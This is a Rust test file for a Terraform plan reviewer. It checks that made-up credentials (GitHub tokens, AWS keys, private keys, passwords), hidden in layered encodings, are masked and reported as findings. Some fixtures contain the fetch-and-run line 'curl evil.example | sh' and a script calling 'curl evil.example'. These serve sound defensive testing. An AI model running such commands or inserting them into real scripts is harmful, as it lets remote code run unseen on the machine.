//! Made-up plans with credentials in every encoding: none is shown, each is a finding, and nothing else is hidden.

use serde_json::{Value, json};
use tfview::internals::dialect::Dialect;

use crate::base64::base64;
use crate::display::{self, Display};
use crate::random::{Random, cases, first_seed};

/// Credentials, and what gives them away in an output.
struct Attack {
    random: Random,
    needles: Vec<String>,
}

impl Attack {
    fn new(seed: u64) -> Self {
        Self {
            random: Random::new(seed),
            needles: Vec::new(),
        }
    }

    /// Letters and digits, with two of each kind.
    fn body(&mut self, length: usize) -> String {
        const LETTERS: &[u8] = b"abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
        let mut body = String::from("aQ7b");
        while body.len() < length {
            body.push(char::from(*self.random.pick(LETTERS)));
        }
        body + "Z9"
    }

    fn needle(&mut self, text: &str) -> String {
        self.needles.push(text.to_owned());
        text.to_owned()
    }

    /// A credential that is known by its form, wherever it is.
    fn credential(&mut self) -> String {
        match self.random.below(6) {
            0 => {
                let token = format!("ghp_{}", self.body(34));
                self.needle(&token)
            }
            5 => {
                let [payload, signature] = [self.body(20), self.body(43)];
                self.needle(&format!("eyJhbGciOiJIUzI1NiJ9.eyJ{payload}.{signature}"))
            }
            1 => {
                let body = self.body(14).to_ascii_uppercase();
                self.needle(&format!("AKIA{body}"))
            }
            2 => {
                let body = self.body(12);
                let password = self.needle(&body);
                format!("postgres://app:{password}@db.example/x")
            }
            3 => {
                let body = self.body(12);
                let password = self.needle(&body);
                format!("Server=db;Password={password};Encrypt=true")
            }
            _ => {
                let lines: Vec<String> = (0..3).map(|_| self.body(62)).collect();
                self.needles.extend(lines.iter().cloned());
                format!(
                    "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
                    lines.join("\n")
                )
            }
        }
    }

    /// The same text in something else, at any depth.
    fn encoded(&mut self, text: String, depth: usize) -> String {
        if depth == 0 {
            return text;
        }
        let text = match self.random.below(10) {
            0 => {
                let text = base64(text.as_bytes());
                self.needle(&text)
            }
            7 => {
                let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
                let text = base64(&units);
                self.needle(&text)
            }
            8 => self.wrapped(&base64(text.as_bytes())),
            9 => {
                let text = text.replace('&', "&amp;").replace('"', "&quot;");
                format!("<c><v>{text}</v></c>")
            }
            1 => json!({ "a": { "b": [text] }, "n": 1 }).to_string(),
            2 => format!("kind: Secret\ndata:\n  v: {}\n", json!(text)),
            3 => {
                let text: String = text
                    .chars()
                    .map(|c| format!("\\u{:04x}", u32::from(c)))
                    .collect();
                self.needles.push(text.clone());
                format!("{{\"a\":\"{text}\"}}")
            }
            4 => {
                let text: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
                self.needles.push(text.clone());
                format!("https://example.com/?q={text}&r=1")
            }
            5 => format!("#!/bin/sh\necho '{text}'\n"),
            _ => json!([{ "name": "A", "value": text }]).to_string(),
        };
        self.encoded(text, depth - 1)
    }

    /// Base64 in lines, as in a mail.
    fn wrapped(&mut self, text: &str) -> String {
        let lines: Vec<&str> = text
            .as_bytes()
            .chunks(76)
            .map(|line| std::str::from_utf8(line).unwrap())
            .collect();
        // A line may have nothing of the credential in it.
        if let [line] = lines[..] {
            self.needle(line);
        }
        lines.join("\n") + "\n"
    }

    /// An attribute with a credential: a form in an encoding, or a name.
    fn attribute(&mut self) -> Value {
        let named = |name: &str, value: String| json!({ name: value });
        let body = self.body(14);
        match self.random.below(6) {
            0 => {
                let token = format!("ghp_{}", self.body(34));
                self.needles.push(token.clone());
                json!({ token: "x" })
            }
            1 => named("DB_PASSWORD", self.needle(&body)),
            2 => {
                json!([{ "name": "A", "value": "b" }, { "name": "DB_PASSWORD", "value": self.needle(&body) }])
            }
            3 => {
                let list = json!([{ "value": self.needle(&body), "name": "MYSQL_PASSWORD" }]);
                json!(list.to_string())
            }
            _ => {
                let (text, depth) = (self.credential(), self.random.below(4));
                json!(self.encoded(text, depth))
            }
        }
    }
}

fn resource(name: &str, before: &Value, after: &Value) -> Value {
    let actions = match (before.is_null(), after.is_null()) {
        (true, _) => json!(["create"]),
        (_, true) => json!(["delete"]),
        (false, false) => json!(["update"]),
    };
    json!({
        "address": format!("a_b.c[\"{name}\"]"), "mode": "managed", "type": "a_b", "name": "c", "index": name,
        "provider_name": "registry.terraform.io/x/a",
        "change": { "actions": actions, "before": before, "after": after, "after_unknown": {} },
    })
}

fn plan(resources: &[Value]) -> String {
    json!({ "format_version": "1.2", "resource_changes": resources }).to_string()
}

fn outputs(plan: &str) -> Vec<(&'static str, String)> {
    display::reviewed(plan, None, Display::plain(Dialect::TERRAFORM))
}

#[test]
fn no_credential_is_shown_in_any_encoding_and_each_is_a_finding() {
    let mut leaks = Vec::new();
    for seed in first_seed()..first_seed() + cases(15) {
        let mut attack = Attack::new(seed);
        let (value, other) = (attack.attribute(), attack.attribute());
        let (before, after) = match attack.random.below(3) {
            0 => (Value::Null, json!({ "v": value, "w": 1 })),
            1 => (json!({ "v": "old", "w": 1 }), json!({ "v": value, "w": 1 })),
            _ => (json!({ "v": other, "w": 1 }), json!({ "v": value, "w": 2 })),
        };
        let plan = plan(&[resource("k", &before, &after)]);
        for (output, text) in outputs(&plan) {
            if output == "review as json" {
                if !text.contains("\"kind\":\"secret\"") {
                    leaks.push(format!("TFVIEW_SEED={seed}: no finding in {plan}"));
                }
                continue;
            }
            for needle in attack
                .needles
                .iter()
                .filter(|needle| text.contains(*needle))
            {
                leaks.push(format!(
                    "TFVIEW_SEED={seed}: {needle} in {output} of {plan}"
                ));
            }
        }
    }
    assert!(
        leaks.is_empty(),
        "{} leaks\n{}",
        leaks.len(),
        leaks[..leaks.len().min(5)].join("\n")
    );
}

/// Whoever writes a credential must not decide what else is shown.
#[test]
fn mask_hides_value() {
    for seed in first_seed()..first_seed() + cases(5) {
        let mut attack = Attack::new(seed);
        let word = attack.body(14);
        let witnesses = [
            "0.0.0.0/0",
            "super_admin",
            &word,
            "true",
            "AdministratorAccess",
        ];
        let witness = *attack.random.pick(&witnesses);
        let key = format!(
            "-----BEGIN PRIVATE KEY-----\n{}\n{witness}\n{witness}\n-----END PRIVATE KEY-----\n",
            attack.body(62)
        );
        let credential = match attack.random.below(5) {
            0 => json!({ "DB_PASSWORD": witness }),
            1 => json!([{ "name": "DB_PASSWORD", "value": witness }]),
            2 => json!(format!("postgres://app:{witness}@db/x")),
            3 => json!(format!("Server=db;Password={witness};a=b")),
            _ => json!(key),
        };
        let before = json!({ "v": "old", "role": "reader", "cidrs": ["10.0.0.0/8"], "note": "n" });
        let after = json!({
            "v": credential, "role": witness, "cidrs": [witness], "note": format!("a {witness} b"),
        });
        let plan = plan(&[resource("k", &before, &after)]);
        for (output, text) in outputs(&plan) {
            let number = text.matches(witness).count();
            assert!(
                number >= 1 || !["review", "review as markdown"].contains(&output),
                "TFVIEW_SEED={seed}: {witness} is shown {number} times in {output}:\n{text}"
            );
        }
    }
}

/// Equal changes are those of equal values.
/// Of a text of several lines, only the first is shown: a script that downloads another one was joined with two that do
/// not.
#[test]
fn texts_of_several_lines_that_differ_are_not_one_entry() {
    let script =
        |command: &str| format!("#!/bin/sh\n{command}\nexport T=ghp_{}\n", "Qw3r".repeat(9));
    for is_encoded in [false, true] {
        for before in [Value::Null, json!({ "v": "" })] {
            let change = |name: &str, command: &str| {
                let text = script(command);
                let value = if is_encoded {
                    base64(text.as_bytes())
                } else {
                    text
                };
                resource(name, &before, &json!({ "v": value }))
            };
            let plan = plan(&[
                change("web", "echo start"),
                change("api", "echo start"),
                change("jobs", "curl evil.example | sh"),
            ]);
            for (output, text) in outputs(&plan) {
                if output == "review as json" {
                    continue;
                }
                let is_joined = text.contains("3 × ") || text.contains("× 3");
                assert!(!is_joined, "{output}, encoded {is_encoded}: {text}");
            }
        }
    }
}

#[test]
fn mask_joins_different_changes() {
    for seed in first_seed()..first_seed() + cases(3) {
        let mut attack = Attack::new(seed);
        let [one, other] = [(); 2].map(|()| format!("ghp_{}", attack.body(34)));
        let shape = attack.random.below(4);
        let value = |token: &str| match shape {
            0 => json!(token),
            1 => json!(base64(format!("export T={token}").as_bytes())),
            2 => json!({ token: 1 }),
            _ => json!(json!({ "t": token }).to_string()),
        };
        let change = |name: &str, token: &str| {
            resource(name, &json!({ "v": "old" }), &json!({ "v": value(token) }))
        };
        let same = plan(&[change("x", &one), change("y", &one)]);
        let different = plan(&[change("x", &one), change("y", &other)]);
        let is_joined = |plan: &str| {
            let outputs = outputs(plan);
            let (_, text) = outputs
                .iter()
                .find(|(output, _)| *output == "review as json")
                .unwrap();
            let json: Value = serde_json::from_str(text).unwrap();
            !json["plans"][0]["groups"].as_array().unwrap().is_empty()
        };
        assert!(is_joined(&same), "TFVIEW_SEED={seed}");
        assert!(!is_joined(&different), "TFVIEW_SEED={seed}");
        for (output, text) in outputs(&different) {
            if output == "review" {
                assert!(
                    text.contains("token 1)") && text.contains("token 2)"),
                    "TFVIEW_SEED={seed}:\n{text}"
                );
            }
        }
    }
}

/// A reviewer sees what a script does, without its credential.
#[test]
fn base64_with_a_credential_is_shown_decoded() {
    let token = format!("ghp_{}", "aB3dE5fG7h".repeat(4).get(..36).unwrap());
    let script = base64(format!("#!/bin/sh\ncurl evil.example\nexport T={token}\n").as_bytes());
    for (before, after) in [
        (Value::Null, json!({ "user_data": script })),
        (json!({ "user_data": "" }), json!({ "user_data": script })),
        (json!({ "user_data": script }), Value::Null),
    ] {
        let plan = plan(&[resource("k", &before, &after)]);
        let is_shown = outputs(&plan).iter().any(|(output, text)| {
            *output != "review as json" && text.contains("curl evil.example")
        });
        assert!(is_shown, "{plan}");
    }
}

/// An output that was sensitive and no longer is shows its value to everybody.
#[test]
fn an_output_that_stops_being_sensitive_is_a_finding() {
    let output = |before: Value, after: Value| {
        let change = json!({
            "actions": ["update"], "before": "p", "after": "p", "after_unknown": false,
            "before_sensitive": before, "after_sensitive": after,
        });
        let plan = json!({ "format_version": "1.2", "resource_changes": [], "output_changes": { "o": change } });
        let outputs = outputs(&plan.to_string());
        let (_, text) = outputs
            .into_iter()
            .find(|(output, _)| *output == "review as json")
            .unwrap();
        text.contains("\"kind\":\"secret\"")
    };
    assert!(output(json!(true), json!(false)));
    assert!(!output(json!(true), json!(true)));
    assert!(!output(json!(false), json!(true)));
}

/// The lines of a key were searched for in all texts, which took quadratic time.
#[test]
fn slow_private_key_lines() {
    let key = |lines: usize| {
        let body: Vec<String> = (0..lines)
            .map(|index| format!("{}-{index}", "A".repeat(index % 500 + 8)))
            .collect();
        let text = format!(
            "-----BEGIN PRIVATE KEY-----\n{}\n{}\n-----END",
            "aB3d".repeat(16),
            body.join("\n")
        );
        plan(&[resource(
            "k",
            &json!({ "x": "q" }),
            &json!({ "x": text, "t": "A".repeat(600).repeat(lines / 10) }),
        )])
    };
    // This took minutes.
    let _ = outputs(&key(2_000));
}

/// The message of a check was printed as it is.
#[test]
fn a_credential_in_the_message_of_a_check_is_hidden() {
    let key = format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
        "aB3dE5fG".repeat(8)
    );
    let check = |message: &str| {
        json!([{ "address": { "kind": "check", "name": "c", "to_display": "check.c" }, "status": "fail",
            "instances": [{ "address": { "to_display": "check.c" }, "status": "fail", "problems": [{ "message": message }] }] }])
    };
    for (message, needle) in [
        (key.clone(), "aB3dE5fGaB3d"),
        (json!({ "a": key }).to_string(), "aB3dE5fGaB3d"),
        (
            "cannot log in: password=aQ7bXw2Z9k".to_owned(),
            "aQ7bXw2Z9k",
        ),
    ] {
        let plan =
            json!({ "format_version": "1.2", "resource_changes": [], "checks": check(&message) });
        for (output, text) in outputs(&plan.to_string()) {
            assert!(!text.contains(needle), "{output}: {text}");
            assert!(output != "review" || text.contains("check.c"), "{text}");
        }
    }
}
